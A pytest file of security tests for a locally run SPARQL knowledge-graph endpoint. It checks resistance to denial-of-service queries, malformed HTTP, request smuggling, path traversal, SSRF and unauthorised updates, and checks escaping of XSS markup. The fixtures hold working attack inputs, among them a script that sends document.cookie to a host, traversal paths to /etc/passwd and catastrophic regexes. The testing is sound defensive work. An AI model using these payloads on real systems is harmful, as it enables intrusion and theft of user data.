"""Attacks and abuse on the endpoint, over real HTTP (waitress on 127.0.0.1).

Pathological queries are stopped at the time limit while other clients are
answered; oversized and malformed requests get a 4xx, never a 500, and no
answer carries a traceback or a file path; nothing makes the server connect
anywhere (a listening socket on 127.0.0.1 proves it); updates are refused by
default and, when enabled, change nothing without the right token; markup in an
ingested article is escaped on its pages. (SERVICE over HTTP, one runaway
cartesian product and the browser check of escaping are in test_server_live.py
and test_browser.py.)
"""
from __future__ import annotations

import json
import re
import socket
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from fixtures_server import (LIVE_TIMEOUT_S, REPO_ROOT, LiveServer, ThreadServer,  # noqa: F401
                             dev_trig, disk_store, live_server, make_app, update_server)
from kg.config import Config
from kg.pipeline import build
from kg.store import KGStore
from server.store import backend

JSON = "application/sparql-results+json"
LEAKS = ("Traceback", 'File "', str(REPO_ROOT), "site-packages", "/usr/lib/python")
SOURCE_FILE = re.compile(r"[\w/]{1,100}\.py\b")   # bounded: pages echo long paths


def request(url: str, *, method: str = "GET", data: bytes | None = None,
            headers: dict[str, str] | None = None, timeout: float = 30.0
            ) -> tuple[int, bytes, dict[str, str]]:
    """Status, body and headers of one HTTP request (error statuses included)."""
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as response:
            return response.status, response.read(), dict(response.headers)
    except urllib.error.HTTPError as error:
        return error.code, error.read(), dict(error.headers)


def query_url(endpoint: str, query: str, **params: str) -> str:
    return f"{endpoint}?{urllib.parse.urlencode({'query': query, **params})}"


def raw(server: LiveServer, payload: bytes, timeout: float = 10.0) -> bytes:
    """Send bytes as they are to the server's port; what it answers before closing."""
    host, port = urllib.parse.urlparse(server.url).hostname, urllib.parse.urlparse(server.url).port
    with socket.create_connection((host, port), timeout=timeout) as conn:
        conn.sendall(payload)
        try:
            conn.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        chunks = []
        try:
            while chunk := conn.recv(65536):
                chunks.append(chunk)
        except (ConnectionResetError, TimeoutError):
            pass
    return b"".join(chunks)


def assert_no_leak(body: bytes | str) -> None:
    text = body.decode("utf-8", "replace") if isinstance(body, bytes) else body
    for leak in LEAKS:
        assert leak not in text, f"{leak!r} in {text[:300]!r}"
    assert not SOURCE_FILE.search(text), text[:300]


# --------------------------------------------------------------------- pathological queries

ALL_PAIRS = "?a ?b ?c . ?d ?e ?f"
PATHOLOGICAL = {
    "cartesian-3": "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "cartesian-order-by": f"SELECT ?a ?d WHERE {{ {ALL_PAIRS} }} "
                          "ORDER BY DESC(CONCAT(STR(?c), STR(?f))) LIMIT 1",
    "nested-star-path": "SELECT (COUNT(*) AS ?n) WHERE { ?a ((!<x:p>)*/(^!<x:p>)*)* ?b }",
    "star-path-chain": "SELECT (COUNT(*) AS ?n) WHERE { ?a " +
                       "/".join(["(<x:p>|!<x:p>)*"] * 6) + " ?b }",
    "regex-on-pairs": f"SELECT (COUNT(*) AS ?n) WHERE {{ {ALL_PAIRS} . ?g ?h ?i "
                      'FILTER REGEX(CONCAT(STR(?c), STR(?f), STR(?i)), "((a|b|c)*){50}(x+x+)+y") }',
    "huge-regex": f"SELECT (COUNT(*) AS ?n) WHERE {{ {ALL_PAIRS} "
                  f'FILTER REGEX(STR(?c), "{"(a|aa)*" * 10_000}") }}',
    "string-blowup": f"SELECT (COUNT(*) AS ?n) WHERE {{ {ALL_PAIRS} . ?g ?h ?i "
                     "BIND(CONCAT(STR(?c), STR(?f), STR(?i), STR(?c), STR(?f)) AS ?x) "
                     'FILTER(CONTAINS(?x, "no such text anywhere")) }',
    # rdflib takes seconds to parse this (2,000 groups: too many brackets to skip the full
    # parse): the parse runs in a worker, under the limit too.
    "optional-parse-bomb": "SELECT * WHERE { ?s ?p ?o " + " ".join(
        f"OPTIONAL {{ ?s ?p{i} ?o{i} }}" for i in range(2000)) + " }",
}
CHEAP_BIG = {   # rdflib took ~17 s to parse this; it skips that parse now and is answered in full
    "values-50k": "SELECT * WHERE { VALUES ?x { " +
                  " ".join(str(i) for i in range(50_000)) + " } }",
}
NESTED = {   # refused at once as too deep to parse
    "nested-groups": "SELECT * WHERE " + "{" * 5000 + " ?s ?p ?o " + "}" * 5000,
    "nested-parentheses": "ASK { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }",
}
SIMPLE = "ASK { ?s a ?type }"


def post_query(endpoint: str, query: str) -> tuple[int, bytes, float]:
    started = time.monotonic()
    status, body, _ = request(endpoint, method="POST", data=query.encode(),
                              headers={"Content-Type": "application/sparql-query",
                                       "Accept": JSON})
    return status, body, time.monotonic() - started


def test_pathological_queries_stop_at_the_limit_while_others_are_served(
        live_server: LiveServer) -> None:
    """Two clients send the pathological queries, two at a time; a third asks simple
    questions all along and is answered at once every time."""
    outcomes: dict[str, tuple[int, bytes, float]] = {}
    simple: list[tuple[int, float]] = []
    done = threading.Event()

    def attacker(names: list[str]) -> None:
        for name in names:
            outcomes[name] = post_query(live_server.endpoint,
                                        {**PATHOLOGICAL, **NESTED, **CHEAP_BIG}[name])

    def analyst() -> None:
        while not done.is_set():
            status, body, seconds = post_query(live_server.endpoint, SIMPLE)
            simple.append((status if json.loads(body).get("boolean") else -1, seconds))
            time.sleep(0.05)

    names = sorted({**PATHOLOGICAL, **NESTED, **CHEAP_BIG})
    attackers = [threading.Thread(target=attacker, args=(names[i::2],)) for i in range(2)]
    watcher = threading.Thread(target=analyst)
    watcher.start()
    for thread in attackers:
        thread.start()
    for thread in attackers:
        thread.join(120)
    done.set()
    watcher.join(30)
    for name, (status, body, seconds) in outcomes.items():
        assert_no_leak(body)
        assert seconds < LIVE_TIMEOUT_S + 2.0, (name, seconds)
        if name in NESTED:
            assert status == 400 and b"nested too deeply" in body, (name, status, body[:200])
        elif name in CHEAP_BIG:
            assert status == 200, (name, status, body[:200])
            assert len(json.loads(body)["results"]["bindings"]) == 50_000
        else:
            assert status == 503, (name, status, body[:200])
            assert b"ran past this endpoint's" in body
    assert len(outcomes) == len(names)
    assert len(simple) >= 10 and all(status == 200 for status, _ in simple), simple
    assert max(seconds for _, seconds in simple) < 2.0, simple
    print(f"{len(outcomes)} pathological or big queries stopped or answered, {len(simple)} simple ones answered "
          f"meanwhile (slowest {max(s for _, s in simple):.2f} s)")


# --------------------------------------------------------------------- oversized, malformed

BIG = 2 * 1024 * 1024


@pytest.mark.parametrize(("name", "method", "path", "body", "headers", "statuses"), [
    ("form body over the limit", "POST", "/sparql", b"query=" + b"x" * BIG,
     {"Content-Type": "application/x-www-form-urlencoded"}, {413}),
    ("query body over the limit", "POST", "/sparql", b"ASK {} #" + b"x" * BIG,
     {"Content-Type": "application/sparql-query"}, {413}),
    ("update body over the limit", "POST", "/sparql", b"CLEAR ALL #" + b"x" * BIG,
     {"Content-Type": "application/sparql-update"}, {413}),
    ("URL over the limit", "GET", "/sparql?query=" + "x" * 300_000, None, {}, {400, 414, 431}),
    ("bad percent escape", "GET", "/sparql?query=%ZZ%", None, {}, {400}),
    ("not UTF-8", "GET", "/sparql?query=ASK%20%7B%7D%C3%28", None, {}, {400}),
    ("NUL in the query", "GET", "/sparql?query=ASK%20%7B%00%7D", None, {}, {400}),
    ("two queries", "GET", "/sparql?query=ASK%7B%7D&query=ASK%7B%7D", None, {}, {400}),
    ("query and update", "POST", "/sparql", b"query=ASK%7B%7D&update=CLEAR%20ALL",
     {"Content-Type": "application/x-www-form-urlencoded"}, {400}),
    ("unknown body type", "POST", "/sparql", b"ASK {}", {"Content-Type": "text/x-nonsense"},
     {415}),
    ("no body type", "POST", "/sparql", b"ASK {}", {}, {400, 415}),  # urllib says: a form
    ("latin-1 charset", "POST", "/sparql", b"ASK {}",
     {"Content-Type": "application/sparql-query; charset=latin-1"}, {400}),
    ("body not UTF-8", "POST", "/sparql", b"ASK { \xff\xfe }",
     {"Content-Type": "application/sparql-query"}, {400}),
    ("malformed Accept", "GET", "/sparql?query=ASK%7B%7D", None,
     {"Accept": "application/json;q=abc;;;,,=="}, {200, 400, 406}),
    ("Accept nothing offered", "GET", "/sparql?query=ASK%7B%7D", None,
     {"Accept": "image/png"}, {406}),
    ("huge Accept", "GET", "/sparql?query=ASK%7B%7D", None,
     {"Accept": ",".join(f"x/y{i};q=0.{i % 10}" for i in range(5000))}, {200, 400, 406, 431}),
    ("unknown format", "GET", "/sparql?query=ASK%7B%7D&format=exe", None, {}, {400}),
    ("bad graph IRI", "GET", "/sparql?query=ASK%7B%7D&default-graph-uri=not%20an%20iri",
     None, {}, {400}),
    ("many graph IRIs", "GET", "/sparql?query=ASK%7B%7D&" + "&".join(
        f"named-graph-uri=http://example.org/g{i}" for i in range(3000)), None, {}, {200}),
    ("PUT", "PUT", "/sparql", b"ASK {}", {"Content-Type": "application/sparql-query"}, {405}),
    ("DELETE data", "DELETE", "/data?default", None, {}, {405}),
    ("bad GSP graph", "GET", "/data?graph=%%%", None, {}, {400}),
    ("path traversal", "GET", "/../../../../etc/passwd", None, {}, {400, 404}),
    ("static traversal", "GET", "/static/../app.py", None, {}, {400, 404}),
    ("encoded traversal", "GET", "/static/%2e%2e/%2e%2e/kg/config.py", None, {}, {400, 404}),
    ("encoded slash traversal", "GET", "/static/..%2f..%2fpyproject.toml", None, {}, {400, 404}),
    ("NUL in the path", "GET", "/actor/%00", None, {}, {400, 404}),
    ("long path", "GET", "/actor/" + "a" * 100_000, None, {}, {400, 404, 414, 431}),
    ("emoji path", "GET", "/actor/%F0%9F%92%A3", None, {}, {404}),
    ("bad UTF-8 path", "GET", "/actor/%C3%28", None, {}, {400, 404}),
])
def test_bad_requests_get_a_4xx_without_internals(live_server: LiveServer, name: str,
                                                  method: str, path: str, body: bytes | None,
                                                  headers: dict[str, str],
                                                  statuses: set[int]) -> None:
    status, answer, answer_headers = request(live_server.url + path, method=method, data=body,
                                             headers=headers)
    assert status in statuses, (name, status, answer[:300])
    assert_no_leak(answer)
    assert_no_leak(json.dumps(answer_headers))
    assert b"root:x:0" not in answer and b"def " not in answer and b"[project]" not in answer


@pytest.mark.parametrize(("name", "payload"), [
    ("garbage request line", b"GARBAGE\r\n\r\n"),
    ("binary noise", bytes(range(256)) * 4 + b"\r\n\r\n"),
    ("bad Content-Length", b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n"
                           b"Content-Type: application/sparql-query\r\n\r\nASK {}"),
    ("negative Content-Length", b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n"
                                b"Content-Type: application/sparql-query\r\n\r\nASK {}"),
    ("broken chunks", b"POST /sparql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                      b"Content-Type: application/sparql-query\r\n\r\nZZZ\r\nASK {}\r\n0\r\n\r\n"),
    ("header flood", b"GET /sparql HTTP/1.1\r\nHost: x\r\n" +
                     b"".join(b"X-H%d: %s\r\n" % (i, b"v" * 4000) for i in range(100)) + b"\r\n"),
    ("header without colon", b"GET /sparql HTTP/1.1\r\nHost: x\r\nNoColonHere\r\n\r\n"),
    ("HTTP/9", b"GET /sparql HTTP/9.9\r\nHost: x\r\n\r\n"),   # waitress answers as HTTP/1.0
    ("request smuggling", b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n"
                          b"Transfer-Encoding: chunked\r\nContent-Type: application/sparql-query"
                          b"\r\n\r\n0\r\n\r\nGET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n\r\n"),
])
def test_malformed_http_is_refused_without_internals(live_server: LiveServer, name: str,
                                                     payload: bytes) -> None:
    answer = raw(live_server, payload)
    if answer:   # closing the connection without an answer is also a refusal
        status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0
        assert 0 < status < 500 or status == 505, (name, answer[:300])
        assert name == "HTTP/9" or status >= 400, (name, answer[:300])
        assert_no_leak(answer)
    # and the server still answers
    status, _, _ = request(query_url(live_server.endpoint, "ASK {}"))
    assert status == 200


# --------------------------------------------------------------------- SSRF

@contextmanager
def trap() -> Iterator[tuple[str, list[int]]]:
    """A listening socket on 127.0.0.1: its base URL, and (after the block) how many
    connections reached it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        reached: list[int] = []
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", reached
        time.sleep(0.5)   # a fetch started after the answer would still show
        while True:
            try:
                conn, _ = listener.accept()
            except BlockingIOError:
                break
            conn.close()
            reached.append(1)


def ssrf_queries(base: str) -> list[tuple[str, dict[str, str], set[int]]]:
    return [
        (f"SELECT * FROM <{base}/g.ttl> WHERE {{ ?s ?p ?o }}", {}, {400}),
        (f"SELECT * FROM NAMED <{base}/g.ttl> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}", {}, {400}),
        (f"BASE <{base}/> SELECT * FROM <g.ttl> WHERE {{ ?s ?p ?o }}", {}, {400}),
        (f"SELECT * WHERE {{ SERVICE <{base}/sparql> {{ ?s ?p ?o }} }}", {}, {400}),
        (f"SELECT * WHERE {{ SERVICE SILENT <{base}/sparql> {{ ?s ?p ?o }} }}", {}, {400}),
        (f"SELECT * WHERE {{ VALUES ?x {{ <{base}/sparql> }} SERVICE ?x {{ ?s ?p ?o }} }}",
         {}, {400}),
        (f"DESCRIBE <{base}/thing>", {}, {200}),
        (f"SELECT * WHERE {{ GRAPH <{base}/g.ttl> {{ ?s ?p ?o }} }}", {}, {200}),
        (f"SELECT * WHERE {{ <{base}/thing> ?p ?o }}", {}, {200}),
        ("SELECT * WHERE { ?s ?p ?o } LIMIT 1", {"default-graph-uri": f"{base}/g.ttl"}, {200}),
        ("SELECT * WHERE { GRAPH ?g { ?s ?p ?o } } LIMIT 1",
         {"named-graph-uri": f"{base}/g.ttl"}, {200}),
    ]


def test_no_query_makes_the_server_connect_anywhere(live_server: LiveServer) -> None:
    with trap() as (base, reached):
        for query, params, statuses in ssrf_queries(base):
            status, body, _ = request(query_url(live_server.endpoint, query, **params),
                                      headers={"Accept": "*/*"})
            assert status in statuses, (query, status, body[:200])
            if status == 400:
                assert b"never fetches" in body, body
        for path in (f"/data?graph={urllib.parse.quote(base + '/g.ttl')}",
                     f"/{base}/thing", f"/data?graph={urllib.parse.quote(base)}&format=nq"):
            status, _, _ = request(live_server.url + path)
            assert status in (400, 404), (path, status)
    assert not reached, f"{len(reached)} connections reached the trap"


def test_no_update_makes_the_server_connect_anywhere(update_server: ThreadServer) -> None:
    auth = {"Authorization": f"Bearer {update_server.token}",
            "Content-Type": "application/sparql-update"}
    with trap() as (base, reached):
        for update, statuses in [
            (f"LOAD <{base}/data.ttl>", {400}),
            (f"LOAD SILENT <{base}/data.ttl> INTO GRAPH <urn:x:g>", {400}),
            (f"INSERT DATA {{ <urn:x:a> <urn:x:b> 1 }} ; LOAD <{base}/data.ttl>", {400}),
            (f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{base}/sparql> {{ ?s ?p ?o }} }}", {400}),
            (f"DELETE {{ ?s ?p ?o }} WHERE {{ SERVICE SILENT <{base}/> {{ ?s ?p ?o }} }}", {400}),
            (f"ADD <{base}/g.ttl> TO DEFAULT", {204}),
            (f"COPY <{base}/g.ttl> TO <urn:x:copy>", {204}),
            (f"CREATE SILENT GRAPH <{base}/g.ttl>", {204}),
            (f"INSERT {{ GRAPH <urn:x:g> {{ ?s ?p ?o }} }} USING <{base}/g.ttl> "
             "WHERE { ?s ?p ?o }", {204}),
        ]:
            status, body, _ = request(update_server.endpoint, method="POST",
                                      data=update.encode(), headers=auth)
            assert status in statuses, (update, status, body[:200])
            if status == 400:
                assert b"never fetches" in body
    assert not reached, f"{len(reached)} connections reached the trap"


# --------------------------------------------------------------------- updates

COUNT = "SELECT (COUNT(*) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } }"
INSERT = "INSERT DATA { GRAPH <urn:x:evil> { <urn:x:a> <urn:x:b> <urn:x:c> } }"
DROP = "DROP ALL"


def quad_count(endpoint: str) -> int:
    status, body, _ = request(query_url(endpoint, COUNT), headers={"Accept": JSON})
    assert status == 200
    return int(json.loads(body)["results"]["bindings"][0]["n"]["value"])


def update_attempts(token: str) -> list[tuple[str, str, dict[str, str]]]:
    """(how, update, headers) of requests that must not change anything."""
    direct = {"Content-Type": "application/sparql-update"}
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    attempts = [("no token", INSERT, direct), ("no token", DROP, direct)]
    for how, value in [("wrong token", f"Bearer {token}x"), ("prefix of the token",
                       f"Bearer {token[:-1]}"), ("other case", f"Bearer {token.upper()}"),
                       ("Basic scheme", f"Basic {token}"), ("Token scheme", f"Token {token}"),
                       ("empty bearer", "Bearer "), ("no scheme", token),
                       ("unicode token", "Bearer tëst-tøken"),
                       ("two tokens", f"Bearer wrong, Bearer {token}")]:
        for update in (INSERT, DROP):
            attempts.append((how, update, {**direct, "Authorization": value}))
    attempts.append(("token in the URL", INSERT, {**direct, "X-Url-Token": token}))
    attempts.append(("update as a GET query", INSERT, {}))
    attempts.append(("update in a query form", "query=" + urllib.parse.quote(INSERT), form))
    return attempts


def send_update(endpoint: str, how: str, update: str, headers: dict[str, str]) -> int:
    if how == "update as a GET query":
        return request(f"{endpoint}?{urllib.parse.urlencode({'update': update})}",
                       headers=headers)[0]
    url = endpoint
    if "X-Url-Token" in headers:
        url = f"{endpoint}?access_token={headers.pop('X-Url-Token')}"
    return request(url, method="POST", data=update.encode(), headers=headers)[0]


def test_updates_are_refused_by_default(live_server: LiveServer) -> None:
    before = quad_count(live_server.endpoint)
    for how, update, headers in update_attempts("any-token") + [
            ("a token", INSERT, {"Content-Type": "application/sparql-update",
                                 "Authorization": "Bearer any-token"})]:
        status = send_update(live_server.endpoint, how, update, dict(headers))
        assert status in (400, 401, 403), (how, status)
    assert quad_count(live_server.endpoint) == before


def test_updates_without_the_right_token_change_nothing(update_server: ThreadServer) -> None:
    before = quad_count(update_server.endpoint)
    for how, update, headers in update_attempts(update_server.token):
        status = send_update(update_server.endpoint, how, update, dict(headers))
        assert status in (400, 401, 403), (how, status)
    assert quad_count(update_server.endpoint) == before
    status = send_update(update_server.endpoint, "right token", INSERT,
                         {"Content-Type": "application/sparql-update",
                          "Authorization": f"Bearer {update_server.token}"})
    assert status == 204 and quad_count(update_server.endpoint) == before + 1


# --------------------------------------------------------------------- markup from articles

HOSTILE = """Council row over <script>alert('title')</script> banner

By Dana Whitfield

The city council on Monday removed a banner that read <b onmouseover="steal()">Vote</b> from the town hall after complaints from residents, the mayor said.

"A banner that says <script>document.location='http://127.0.0.1:9/?c='+document.cookie</script> is not a message we want on a public building," said Mayor Tom Reyes.

The group that put it up said it would appeal against the decision and <img src=x onerror="alert(1)"> protest again.
"""


def test_markup_in_an_ingested_article_is_escaped_on_its_pages(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    store = KGStore(tmp_path / "store")
    report = build([tmp_path / "in"], Config(store=tmp_path / "store"), store=store)
    assert len(report.added) == 1, report
    [article] = list(store.articles())
    claims = store.select("SELECT ?c WHERE { ?c a nkg:Claim }")
    app = make_app(STORE_OBJECT=store)
    try:
        client = app.test_client()
        base = Config().base
        paths = ["/" + article.iri.removeprefix(base),
                 *("/" + row["c"].removeprefix(base) for row in claims)]
        assert claims, "the quote should be a claim"
        for path in paths:
            response = client.get(path, headers={"Accept": "text/html"})
            assert response.status_code == 200, path
            body = response.get_data(as_text=True)
            assert "<script" not in body.lower() and "<img src=x" not in body
            assert "<b onmouseover" not in body and "onerror=\"alert" not in body
            assert "&lt;script&gt;" in body
            assert "script-src 'self'" in response.headers["Content-Security-Policy"]
    finally:
        backend(app).close()
        store.close()
